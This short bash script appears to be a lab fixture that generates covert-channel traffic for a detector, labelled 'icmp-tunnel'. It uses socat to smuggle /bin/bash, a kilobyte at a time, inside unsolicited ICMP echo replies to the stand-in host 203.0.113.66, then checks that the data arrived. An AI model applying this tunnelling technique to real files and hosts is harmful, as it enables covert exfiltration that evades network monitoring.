#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=icmp-tunnel,covert-socket half=report tool=socat far=out seconds=26 parts=dns
# socat sends answers of echo that nobody asked for, a kilobyte of a file in each.
if [ "$1" = out ]; then exec timeout 40 socat -u IP4-RECV:1,bind=203.0.113.66 "CREATE:$LAB/got"; fi
sleep 2; for n in $(seq 0 139); do (printf '\0\0\0\0\x2a\x2a\0\1'; dd if=/bin/bash bs=1000 skip="$n" count=1 2>/dev/null) | socat -u -b 2000 - IP4-SENDTO:203.0.113.66:1; sleep 0.05; done
sleep 2; [ "$(stat -c %s "$LAB/got")" -gt 100000 ]
